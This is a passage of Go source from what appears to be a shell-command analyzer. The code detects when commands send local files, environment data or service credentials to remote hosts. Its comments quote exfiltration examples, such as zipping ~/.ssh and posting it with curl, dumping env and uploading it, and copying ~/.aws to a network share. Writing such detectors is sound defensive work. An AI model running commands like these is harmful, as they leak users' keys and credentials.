	case "remote":
		var out []Word
		for _, op := range ops {
			if isRemote(op.Value) {
				out = append(out, op)
			}
		}
		return out
	default:
		return ops
	}
	return nil
}

// isRemote says whether an scp or rsync operand names a remote host (host:path, user@host:path, rsync://).
func isRemote(s string) bool {
	if strings.Contains(s, "://") {
		return true
	}
	i := strings.IndexByte(s, ':')
	return i > 0 && !strings.Contains(s[:i], "/")
}

// sentData returns the files a sender's options and the stage before it send.
func (z *analyzer) sentData(e *EffectSpec, pa *parsedArgs) []Word {
	var out []Word
	for _, v := range pa.values(e.Data) {
		out = append(out, z.resolvePath(v))
	}
	atValues := pa.values(e.DataAt)
	if contains(e.DataAt, "operands") {
		atValues = append(atValues, pa.operands...)
	}
	for _, v := range atValues {
		if f, ok := atFile(v.Value); ok {
			out = append(out, z.resolvePath(Word{Value: f, Literal: v.Literal, Glob: v.Glob}))
		}
	}
	out = append(out, z.feedData()...)
	out = append(out, z.stdinFiles...)
	return out
}

// atFile reads the file of a value that sends one: @file, name=@file, name=<file, name@file (httpie),
// with ;type=… options cut.
func atFile(v string) (string, bool) {
	i := strings.IndexAny(v, "@<")
	if i < 0 {
		return "", false
	}
	if i > 0 && v[i] == '<' && v[i-1] != '=' {
		return "", false
	}
	f := v[i+1:]
	if j := strings.IndexByte(f, ';'); j >= 0 {
		f = f[:j]
	}
	if f == "" || f == "-" {
		return "", false
	}
	return f, true
}

func (z *analyzer) resolveAll(ws []Word) []Word {
	if len(ws) == 0 {
		return nil
	}
	out := make([]Word, len(ws))
	for i, w := range ws {
		out[i] = z.resolvePath(w)
	}
	return out
}

// effect records an effect, and the files it writes or reads in Writes and Reads. A file a send carries
// that an earlier command of the line wrote carries what that command read: "zip -r k.zip ~/.ssh && curl
// -F f=@k.zip …" and "env > e && curl -F f=@e …" send ~/.ssh and the environment.
func (z *analyzer) effect(e Effect) {
	if !z.budget.take(1) {
		return
	}
	if e.Kind == Sends && len(e.Data) > 0 {
		e.Data = z.carried(e.Data, e.Command)
	}
	if e.Kind == Sends && z.tokenSentAway(e.Targets) {
		// A known service's credential in a request to another host: the environment it lives in is sent.
		e.Data = append(e.Data, Word{Value: "/proc/self/environ", Literal: true})
	}
	if e.Kind == Writes && z.feed != nil {
		// What the stage before pipes in is what the file holds: env | tee e.
		if fed := z.feedData(); len(fed) > 0 {
			if z.fedInto == nil {
				z.fedInto = map[string][]Word{}
			}
			for _, t := range e.Targets {
				c := path.Clean(t.Value)
				z.fedInto[c] = append(z.fedInto[c], fed...)
			}
		}
	}
	switch e.Kind {
	case Writes:
		z.a.Writes = append(z.a.Writes, e.Targets...)
	case Reads:
		if len(e.Targets) == 0 {
			return
		}
	}
	z.a.Effects = append(z.a.Effects, e)
	if e.Kind == Writes {
		z.writesAway(e)
	}
}

// writesAway records a write to a network path (a UNC share, read as smb://host/share) as what it is, a
// send of what the command read: Copy-Item ~/.aws \\host\share sends ~/.aws.
func (z *analyzer) writesAway(e Effect) {
	var remote []Word
	for _, t := range e.Targets {
		if strings.Contains(t.Value, "://") {
			remote = append(remote, t)
		}
	}
	if len(remote) == 0 {
		return
	}
	var data []Word
	for i := range z.a.Effects {
		if r := &z.a.Effects[i]; r.Kind == Reads && r.Command == e.Command {
			data = append(data, r.Targets...)
		}
	}
	z.effect(Effect{Kind: Sends, Program: e.Program, Targets: remote, Data: data, Command: e.Command})
}

// HasEffect reports whether the analysis has an effect of a kind.
func (a *Analysis) HasEffect(k EffectKind) bool {
	for i := range a.Effects {
		if a.Effects[i].Kind == k {
			return true
		}
	}
	return false
}

// carried returns data with, for each file an earlier command of the line wrote or named beside the files
// it read, what that command read or was piped, followed through as many files as the line passed the
// data along.
func (z *analyzer) carried(data []Word, command int) []Word {
	seen := map[string]bool{}
	for _, d := range data {
		seen[path.Clean(d.Value)] = true
	}
	for i := 0; i < len(data); i++ {
		d := path.Clean(data[i].Value)
		for _, t := range z.fedInto[d] {
			if c := path.Clean(t.Value); !seen[c] {
				seen[c] = true
				data = append(data, t)
			}
		}
		for _, w := range z.a.Effects {
			// A file an earlier command wrote carries what it read. So does a file it only named beside
			// what it read, since a program of unknown grammar may have written it (7z a k.7z ~/.ssh).
			if w.Kind != Writes && w.Kind != Reads || w.Command == command || !slices.ContainsFunc(w.Targets, func(t Word) bool { return path.Clean(t.Value) == d }) {
				continue
			}
			for _, r := range z.a.Effects {
				if r.Kind != Reads || r.Command != w.Command {
					continue
				}
				for _, t := range r.Targets {
					if c := path.Clean(t.Value); !seen[c] {
						seen[c] = true
						data = append(data, t)
					}
				}
			}
		}
	}
	return data
}

// tokenSentAway reports whether the command being analyzed puts a known service's credential variable in
// its words (z.argVars), or is piped one by a stage before, while sending to a host that service does not
// answer at. A destination known only at run time is not judged.
func (z *analyzer) tokenSentAway(targets []Word) bool {
	vars := z.argVars
	for f := z.feed; f != nil; f = f.prev { // what the stages before pipe in
		for ci := f.from; ci < f.to; ci++ {
			vars = append(vars[:len(vars):len(vars)], z.cmdVars[ci]...)
		}
	}
	if len(vars) == 0 {
		return false
	}
	table := tokenHosts()
	for _, v := range vars {
		domains, ok := table[v]
		if !ok {
			continue
		}
		for _, t := range targets {
			h := hostOf(t)
			if h != "" && !servedAt(h, domains) {
				return true
			}
		}
	}
	return false
}

// servedAt reports whether host is one of a service's domains or a subdomain of one.
func servedAt(host string, domains []string) bool {
	return slices.ContainsFunc(domains, func(d string) bool { return host == d || strings.HasSuffix(host, "."+d) })
}

// hostOf is the host a send's target names (a URL, user@host, host:path), lowercased; "" when the target
// is known only at run time or names none.
func hostOf(w Word) string {
	v := w.Value
	if _, rest, ok := strings.Cut(v, "://"); ok {
		// A URL's host may be known while its path or query is not (https://x.example/?t=$TOKEN).
		if i := strings.IndexAny(rest, "/?#"); i >= 0 {
			rest = rest[:i]
		}
		if rest == "" || strings.Contains(rest, Unknown) {
			return ""
		}
		u, err := url.Parse("http://" + rest)
		if err != nil {
			return ""
		}
		return strings.ToLower(u.Hostname())
	}
	if !w.Literal || v == "" {
		return ""
	}
	if i := strings.LastIndexByte(v, '@'); i >= 0 {
		v = v[i+1:]
	}
	if i := strings.IndexAny(v, ":/"); i >= 0 {
		v = v[:i]
	}
	if !strings.Contains(v, ".") {
		return "" // not a host name: a file, a port, a path
	}
	return strings.ToLower(v)
}

//go:embed programs/tokens.yaml
var tokensYAML []byte

// tokenHosts maps a credential variable to the domains its service answers at (programs/tokens.yaml).
var tokenHosts = sync.OnceValue(func() map[string][]string {
	var f struct {
		Tokens map[string][]string `yaml:"tokens"`
	}
	dec := yaml.NewDecoder(bytes.NewReader(tokensYAML))
	dec.KnownFields(true)
	if err := dec.Decode(&f); err != nil {
		panic("shell: embedded token table: " + err.Error())
	}
	return f.Tokens
})
